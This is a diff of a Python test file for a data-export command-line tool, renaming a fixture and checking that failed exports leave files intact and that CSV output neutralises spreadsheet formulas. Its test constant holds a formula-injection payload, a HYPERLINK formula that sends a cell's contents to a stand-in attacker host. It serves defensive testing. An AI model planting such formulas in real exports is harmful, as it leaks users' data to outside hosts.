@@ -25,7 +25,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
 @pytest.fixture(scope="module")
-def sandbox() -> Iterator[Sandbox]:
+def cli_sandbox() -> Iterator[Sandbox]:
     with threaded_sandbox(entries=40, seed=11, token="tok-export-safety-0001") as sb:
         first = sorted(sb.store.entries)[0]
         sb.store.entries[first]["note"] = FORMULA
@@ -52,11 +52,11 @@ def files_in(folder: Path) -> set[str]:
 @pytest.mark.parametrize("resume", [False, True])
 @pytest.mark.parametrize("failure", ["wrong token", "unreachable", "bad filter"])
 def test_a_failed_export_keeps_the_old_file_and_leaves_no_debris(
-    sandbox: Sandbox, tmp_path: Path, failure: str, resume: bool
+    cli_sandbox: Sandbox, tmp_path: Path, failure: str, resume: bool
 ) -> None:
     keep, new = tmp_path / "keep.jsonl", tmp_path / "new.jsonl"
     keep.write_bytes(OLD)
-    base_url, token, filters = sandbox.base_url, sandbox.token, []
+    base_url, token, filters = cli_sandbox.base_url, cli_sandbox.token, []
     if failure == "wrong token":
         token = "tok-wrong-secret"
     elif failure == "unreachable":
@@ -78,36 +78,36 @@ def test_a_failed_export_keeps_the_old_file_and_leaves_no_debris(
 
 
 def test_a_successful_export_replaces_the_file_and_keeps_its_mode(
-    sandbox: Sandbox, tmp_path: Path
+    cli_sandbox: Sandbox, tmp_path: Path
 ) -> None:
     keep = tmp_path / "keep.jsonl"
     keep.write_bytes(OLD)
     keep.chmod(0o640)
-    result = export(sandbox.base_url, sandbox.token, "-o", str(keep))
+    result = export(cli_sandbox.base_url, cli_sandbox.token, "-o", str(keep))
     assert result.exit_code == 0, result.output
     lines = keep.read_bytes().splitlines()
     assert len(lines) == 40
-    assert {json.loads(line)["id"] for line in lines} == set(sandbox.store.entries)
+    assert {json.loads(line)["id"] for line in lines} == set(cli_sandbox.store.entries)
     assert keep.stat().st_mode & 0o777 == 0o640
     assert json.loads((tmp_path / "keep.jsonl.checkpoint").read_text())["complete"] is True
     assert files_in(tmp_path) - {"xdg"} == {"keep.jsonl", "keep.jsonl.checkpoint"}
 
 
-def test_a_failed_export_keeps_the_old_checkpoint(sandbox: Sandbox, tmp_path: Path) -> None:
+def test_a_failed_export_keeps_the_old_checkpoint(cli_sandbox: Sandbox, tmp_path: Path) -> None:
     keep = tmp_path / "keep.jsonl"
-    assert export(sandbox.base_url, sandbox.token, "-o", str(keep)).exit_code == 0
+    assert export(cli_sandbox.base_url, cli_sandbox.token, "-o", str(keep)).exit_code == 0
     before = keep.read_bytes(), (tmp_path / "keep.jsonl.checkpoint").read_bytes()
-    failed = export(sandbox.base_url, "tok-wrong-secret", "-o", str(keep))
+    failed = export(cli_sandbox.base_url, "tok-wrong-secret", "-o", str(keep))
     assert failed.exit_code == 1
     assert (keep.read_bytes(), (tmp_path / "keep.jsonl.checkpoint").read_bytes()) == before
-    again = export(sandbox.base_url, sandbox.token, "-o", str(keep), "--resume")
+    again = export(cli_sandbox.base_url, cli_sandbox.token, "-o", str(keep), "--resume")
     assert again.exit_code == 0, again.output
     assert "exported 0 entries" in again.stderr  # the old pair still belongs together
     assert keep.read_bytes() == before[0]
 
 
 def test_interrupting_an_export_without_resume_says_the_file_is_unchanged(
-    sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    cli_sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     from awork_async.cli import cmd_export
 
@@ -116,10 +116,10 @@ def test_interrupting_an_export_without_resume_says_the_file_is_unchanged(
 
     monkeypatch.setattr(cmd_export, "run_export", interrupted)
     keep = tmp_path / "keep.jsonl"
-    result = export(sandbox.base_url, sandbox.token, "-o", str(keep))
+    result = export(cli_sandbox.base_url, cli_sandbox.token, "-o", str(keep))
     assert result.exit_code == 130
     assert f"{keep} is unchanged" in result.stderr
-    resumed = export(sandbox.base_url, sandbox.token, "-o", str(keep), "--resume")
+    resumed = export(cli_sandbox.base_url, cli_sandbox.token, "-o", str(keep), "--resume")
     assert "run the same command to continue" in resumed.stderr
 
 
@@ -127,13 +127,17 @@ def csv_notes(path: Path) -> set[str]:
     return {row["note"] for row in csv.DictReader(io.StringIO(path.read_text(), newline=""))}
 
 
-def test_csv_formulas_are_neutralised_unless_raw_values(sandbox: Sandbox, tmp_path: Path) -> None:
+def test_csv_formulas_are_neutralised_unless_raw_values(
+    cli_sandbox: Sandbox, tmp_path: Path
+) -> None:
     safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
-    assert export(sandbox.base_url, sandbox.token, "-f", "csv", "-o", str(safe)).exit_code == 0
+    assert (
+        export(cli_sandbox.base_url, cli_sandbox.token, "-f", "csv", "-o", str(safe)).exit_code == 0
+    )
     notes = csv_notes(safe)
     assert "'" + FORMULA in notes
     assert FORMULA not in notes
     args = ["-f", "csv", "-o", str(raw), "--csv-raw-values"]
-    assert export(sandbox.base_url, sandbox.token, *args).exit_code == 0
+    assert export(cli_sandbox.base_url, cli_sandbox.token, *args).exit_code == 0
     assert FORMULA in csv_notes(raw)
     assert "'" + FORMULA not in csv_notes(raw)
